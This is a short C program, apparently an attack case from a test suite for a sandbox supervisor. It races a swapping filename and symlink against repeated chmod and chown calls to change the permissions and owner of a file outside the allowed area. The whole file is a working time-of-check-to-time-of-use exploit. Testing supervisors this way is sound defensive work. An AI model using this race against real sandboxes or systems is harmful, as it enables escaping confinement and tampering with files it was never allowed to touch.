// Exchanges names while the supervisor looks at them.
#include "attack.h"
#include <pthread.h>
static char name[4096];
static const char *inside = "mine", *outside;
static void *swap(void *nothing) {
    for (;;) {
        strcpy(name, inside);
        strcpy(name, outside);
        symlink(outside, "link.new"), rename("link.new", "link");
        close(creat("file.new", 0644)), rename("file.new", "link");
    }
    return nothing;
}
int main(int argc, char **argv) {
    outside = strdup(in(OUTSIDE, "victim"));
    close(creat("mine", 0644));
    pthread_t thread;
    pthread_create(&thread, 0, swap, 0);
    for (int n = 0; n < 2000; n++) {
        chmod(name, 0777);
        chmod("link", 0777);
        chown(name, 1, 1);
    }
    puts("tried");
    return 0;
}
